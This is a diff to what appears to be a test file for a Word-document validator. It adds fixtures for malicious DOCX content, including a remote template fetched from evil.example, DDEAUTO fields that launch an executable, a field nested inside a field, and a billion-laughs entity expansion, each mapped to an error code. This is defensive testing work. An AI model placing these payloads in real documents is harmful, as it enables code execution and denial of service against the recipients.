@@ -234,10 +234,14 @@ EXTERNAL = (
     b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
     b'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
 )
+BEGIN = b'<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+END = b'<w:r><w:fldChar w:fldCharType="end"/></w:r>'
 FETCHING = (
-    b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r>'
-    b'<w:r><w:instrText>AUTO c:\\\\x.exe </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r>'
-)
+    BEGIN + b"<w:r><w:instrText> PAGE</w:instrText></w:r>" + END
+    + BEGIN + b"<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:x.exe</w:instrText></w:r>" + END
+    + b"<w:r>"
+)  # fmt: skip
+QUOTED = BEGIN + BEGIN + b"<w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r>" + END + END + b"<w:r>"
 LAUGHS = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><w:styles xmlns:w="x">&b;</w:styles>'
 ATTACKS: dict[str, tuple[Callable[[dict[str, bytes]], None], str]] = {
     "macros": (_add("word/vbaProject.bin", b"x"), "E613"),
@@ -253,6 +257,7 @@ ATTACKS: dict[str, tuple[Callable[[dict[str, bytes]], None], str]] = {
         "E612",
     ),
     "a field that fetches": (_replace("word/header1.xml", b"<w:r>", FETCHING), "E614"),
+    "a field behind a field": (_replace("word/header1.xml", b"<w:r>", QUOTED), "E614"),
     "deep": (_replace("word/header1.xml", b"<w:r>", b"<w:p>" * 5000 + b"</w:p>" * 5000 + b"<w:r>"), "E612"),
     "no page": (_replace("word/document.xml", b"w:pgSz", b"w:pgXX"), "E612"),
     "a page of no width": (_replace("word/document.xml", b'w:w="11339"', b'w:w="99"'), "E612"),
